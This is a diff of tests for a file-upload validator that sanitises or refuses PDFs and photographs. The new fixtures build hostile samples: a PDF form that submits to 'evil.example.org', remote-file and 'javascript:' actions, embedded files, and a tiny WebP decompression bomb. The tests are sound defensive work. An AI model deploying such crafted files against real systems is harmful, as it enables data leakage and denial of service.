@@ -1,5 +1,6 @@
 """Photographs and PDFs come in as what they are, with nothing hidden in them, or are refused in a sentence."""
 
+import fcntl
 import io
 
 import pikepdf
@@ -9,6 +10,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from PIL import Image
 
+from office import pictures
 from tests.factories import make_contribution, make_participant
 from workshops.intake import attachments
 
@@ -103,6 +105,116 @@ def test_a_pdf_that_does_more_than_show_pages_is_refused(change):
     assert refused.value.messages == [
         "answers.pdf has code or other files inside. Print it to a plain PDF, or photograph it."
     ]
+
+
+def with_a_form_that_is_sent(document):
+    document.pages[0].AA = pikepdf.Dictionary(
+        O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example.org")
+    )
+
+
+def with_a_file_that_is_fetched(document):
+    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="other.pdf")
+
+
+def with_a_film(document):
+    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Movie)])
+
+
+def with_a_file_pinned_to_the_page(document):
+    held = pikepdf.Dictionary(F="inside.txt", EF=pikepdf.Dictionary(F=document.make_stream(b"inside")))
+    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment, FS=held)])
+
+
+@pytest.mark.parametrize(
+    "change", [with_a_form_that_is_sent, with_a_file_that_is_fetched, with_a_film, with_a_file_pinned_to_the_page]
+)
+def test_a_pdf_that_sends_fetches_or_plays_is_refused(change):
+    with pytest.raises(ValidationError) as refused:
+        only(pdf(change), "answers.pdf")
+
+    assert refused.value.messages == [
+        "answers.pdf has code or other files inside. Print it to a plain PDF, or photograph it."
+    ]
+
+
+def with_what_programs_leave(document):
+    page = document.pages[0]
+    document.Root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])
+    document.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.GoTo))
+    page.obj.Metadata = document.make_stream(b"<x>CANARY-AUTHOR</x>")
+    page.obj.PieceInfo = pikepdf.Dictionary(Word=pikepdf.Dictionary(Private="CANARY-AUTHOR"))
+    links = [
+        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address)
+        for address in ("javascript:CANARY()", "file:///CANARY", "https://example.org")
+    ]
+    note = pikepdf.Dictionary(Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], T="CANARY-AUTHOR", Contents="Words.")
+    page.obj.Annots = pikepdf.Array([note, *(pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=link) for link in links)])
+
+
+def test_a_pdf_does_nothing_on_opening_and_tells_nobody_who_wrote_it():
+    stored = only(pdf(with_what_programs_leave), "answers.pdf")
+
+    with pikepdf.open(io.BytesIO(stored.content)) as document:
+        written = document.pages[0].obj.unparse(resolved=True) + b"".join(
+            thing.unparse(resolved=True) for thing in document.objects
+        )
+        assert [name in document.Root for name in ("/OpenAction", "/AA")] == [False, False]
+        assert (b"CANARY" in written, b"https://example.org" in written, b"Words." in written) == (False, True, True)
+
+
+def webp_of_a_few_bytes(width, height):
+    """It says that it is enormous, in one of the three ways in which a WebP says it."""
+    bits = (width - 1) | (height - 1) << 14
+    lossless = b"VP8L" + (13).to_bytes(4, "little") + b"\x2f" + bits.to_bytes(4, "little") + bytes(9)
+    return b"RIFF" + (4 + len(lossless)).to_bytes(4, "little") + b"WEBP" + lossless
+
+
+@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
+def test_a_photograph_has_at_most_twenty_million_pixels(kind):
+    with pytest.raises(ValidationError) as refused:
+        only(photograph(kind, (5001, 4000)))
+
+    assert refused.value.messages == ["paper.jpg has too many pixels. Send a smaller photograph."]
+
+
+def test_five_small_files_that_say_they_are_enormous_are_refused_one_by_one():
+    bomb = webp_of_a_few_bytes(16_384, 16_384)
+
+    with pytest.raises(ValidationError) as refused:
+        attachments.checked([upload(bomb, f"{number}.webp") for number in range(5)])
+
+    assert len(bomb) == 34
+    assert refused.value.messages == [
+        f"{number}.webp has too many pixels. Send a smaller photograph." for number in range(5)
+    ]
+
+
+def test_a_photograph_is_opened_by_a_process_that_may_not_take_more_memory_than_it_is_given(monkeypatch):
+    monkeypatch.setattr(pictures, "MEMORY", 160 * 1024 * 1024)
+
+    with pytest.raises(ValidationError, match="too many pixels"):
+        only(photograph("PNG", (4900, 4000)))
+
+
+def test_a_file_that_takes_too_long_is_told_so(monkeypatch):
+    monkeypatch.setattr(pictures, "PATIENCE", 0.001)
+
+    with pytest.raises(ValidationError) as refused:
+        only(photograph())
+
+    assert refused.value.messages == [
+        "paper.jpg: One of these files takes too long to be opened. Save it anew, or photograph it once more."
+    ]
+
+
+def test_pictures_are_opened_one_at_a_time(monkeypatch, settings):
+    monkeypatch.setattr(pictures, "LONGEST_WAIT", 0)
+
+    with (settings.VAR_DIR / "pictures.lock").open("w") as held_by_another:
+        fcntl.flock(held_by_another, fcntl.LOCK_EX)
+        with pytest.raises(ValidationError, match="Many pictures are being taken in at this moment"):
+            only(photograph())
 
 
 def locked():
